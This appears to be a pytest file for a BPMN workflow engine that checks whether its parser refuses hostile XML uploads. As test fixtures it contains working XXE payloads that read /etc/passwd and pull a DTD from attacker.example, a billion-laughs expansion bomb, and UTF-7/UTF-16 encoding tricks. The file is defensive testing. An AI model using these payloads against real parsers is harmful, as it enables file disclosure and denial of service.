"""Uploaded XML is hostile until proven otherwise: nothing is resolved, fetched or expanded."""

from __future__ import annotations

import time

import pytest

from engine.config import REPO_ROOT
from engine.definitions.compile import DefinitionInvalid, SourceFile, compile_bundle
from engine.definitions.forms import FormSource
from engine.definitions.xmlsafe import MAX_XML_BYTES, UnsafeXml, parse_untrusted
from handlers import default_registry

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><documentation>&secret;</documentation></definitions>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  %remote;
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n'
    + b"".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n'.encode() for i in range(1, 10))
    + b"]>\n<lolz>&lol9;</lolz>"
)

DOCTYPE_ONLY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/bpmn.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""


def utf16(document: bytes) -> bytes:
    return (
        document.decode()
        .replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
        .encode("utf-16")
    )


def refuse_quickly(data: bytes, **kwargs: int) -> UnsafeXml:
    started = time.perf_counter()
    with pytest.raises(UnsafeXml) as caught:
        parse_untrusted(data, **kwargs)
    assert time.perf_counter() - started < 0.5
    return caught.value


def test_external_entity_to_a_local_file_is_refused() -> None:
    error = refuse_quickly(XXE_FILE)

    assert "DOCTYPE" in str(error)
    assert "root:" not in str(error)


def test_parameter_entities_are_refused() -> None:
    assert "DOCTYPE" in str(refuse_quickly(XXE_PARAMETER))


def test_billion_laughs_is_refused() -> None:
    assert "DOCTYPE" in str(refuse_quickly(BILLION_LAUGHS))


def test_a_doctype_alone_is_refused() -> None:
    assert "DOCTYPE" in str(refuse_quickly(DOCTYPE_ONLY))


def test_doctype_after_a_long_comment_is_refused() -> None:
    padded = b"<!--" + b" " * 10_000 + b"-->\n" + DOCTYPE_ONLY.split(b"\n", 1)[1]

    assert "DOCTYPE" in str(refuse_quickly(padded))


@pytest.mark.parametrize(
    "document", [XXE_FILE, BILLION_LAUGHS, DOCTYPE_ONLY], ids=["xxe", "laughs", "doctype"]
)
def test_the_same_attacks_in_utf16_are_refused(document: bytes) -> None:
    assert "UTF-8" in str(refuse_quickly(utf16(document)))


def test_an_encoding_that_could_hide_a_doctype_is_refused() -> None:
    utf7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE d+AD4-<d/>'

    assert "UTF-7" in str(refuse_quickly(utf7))


def test_oversized_input_is_refused_before_parsing() -> None:
    huge = b"<definitions>" + b" " * MAX_XML_BYTES + b"</definitions>"

    error = refuse_quickly(huge)

    assert str(MAX_XML_BYTES) in str(error)


def test_size_limit_can_be_lowered() -> None:
    assert "limit is 100" in str(refuse_quickly(b"<d>" + b"x" * 200 + b"</d>", max_bytes=100))


@pytest.mark.parametrize(
    "data",
    [b"", b"not xml at all", b"<definitions><process></definitions>", b"<a/><b/>"],
    ids=["empty", "text", "unclosed", "two-roots"],
)
def test_malformed_xml_is_refused(data: bytes) -> None:
    assert "well-formed" in str(refuse_quickly(data))


def test_ordinary_bpmn_parses() -> None:
    data = (REPO_ROOT / "tests" / "fixtures" / "discretionary_benefit.bpmn").read_bytes()

    root = parse_untrusted(data)

    assert root.tag == "{http://www.omg.org/spec/BPMN/20100524/MODEL}definitions"
    assert root.find(".//{*}process").get("id") == "discretionary_benefit"


def test_utf8_with_bom_and_latin1_declarations_parse() -> None:
    bom = b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?><d>caf\xc3\xa9</d>'
    latin1 = b'<?xml version="1.0" encoding="ISO-8859-1"?><d>caf\xe9</d>'

    assert parse_untrusted(bom).text == "café"
    assert parse_untrusted(latin1).text == "café"


def test_compile_bundle_reports_unsafe_xml_against_the_right_file() -> None:
    good = SourceFile(
        "discretionary_benefit.bpmn",
        (REPO_ROOT / "tests" / "fixtures" / "discretionary_benefit.bpmn").read_bytes(),
    )
    bad = SourceFile("evil.bpmn", XXE_FILE)

    with pytest.raises(DefinitionInvalid) as caught:
        compile_bundle([good, bad], FormSource(REPO_ROOT / "forms"), default_registry())

    assert [(p.file, p.element_id) for p in caught.value.problems] == [("evil.bpmn", None)]
    assert "DOCTYPE" in caught.value.problems[0].message
